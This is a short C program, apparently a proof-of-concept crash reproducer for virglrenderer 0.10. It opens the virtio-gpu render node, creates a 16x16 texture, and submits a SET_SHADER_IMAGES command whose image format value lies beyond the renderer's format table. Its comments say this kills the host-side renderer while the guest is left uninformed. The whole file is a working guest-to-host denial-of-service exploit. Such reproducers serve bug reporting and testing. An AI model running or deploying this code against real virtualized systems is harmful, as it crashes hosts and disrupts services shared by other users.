// A client whose command stream virglrenderer 0.10 dies of, unless it is kept from it: a shader's image of a format beyond its table.

#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
#include <virtgpu_drm.h>

// By virgl_protocol.h and p_defines.h: SET_SHADER_IMAGES, seven words of which follow, and what the picture is made for.
#define IMAGES_HEADER (7u << 16 | 35u)
#define TEXTURE_2D 2
#define B8G8R8A8 1
#define RENDER_TARGET 2
#define SAMPLER_VIEW 8
#define FRAGMENT_SHADER 1
#define FIRST_IMAGE 0
#define BEYOND_ALL_FORMATS 0x7fffffffu
#define READ_AND_WRITE 3

int main(void)
{
	int render = open("/dev/dri/renderD128", O_RDWR | O_CLOEXEC);
	struct drm_virtgpu_resource_create picture = {
		.target = TEXTURE_2D,
		.format = B8G8R8A8,
		.bind = RENDER_TARGET | SAMPLER_VIEW,
		.width = 16,
		.height = 16,
		.depth = 1,
		.array_size = 1,
	};
	if (render < 0 || ioctl(render, DRM_IOCTL_VIRTGPU_RESOURCE_CREATE, &picture) < 0) {
		printf("no picture was made: %s\n", strerror(errno));
		return 1;
	}
	uint32_t words[] = {
		IMAGES_HEADER, FRAGMENT_SHADER, FIRST_IMAGE, BEYOND_ALL_FORMATS, READ_AND_WRITE, 0, 0, picture.res_handle,
	};
	struct drm_virtgpu_execbuffer stream = { .size = sizeof(words), .command = (uintptr_t)words };

	// The driver answers before the device does, which is why nobody tells the client.
	if (ioctl(render, DRM_IOCTL_VIRTGPU_EXECBUFFER, &stream) < 0) {
		printf("no stream was sent: %s\n", strerror(errno));
		return 1;
	}
	printf("sent\n");
	return 0;
}
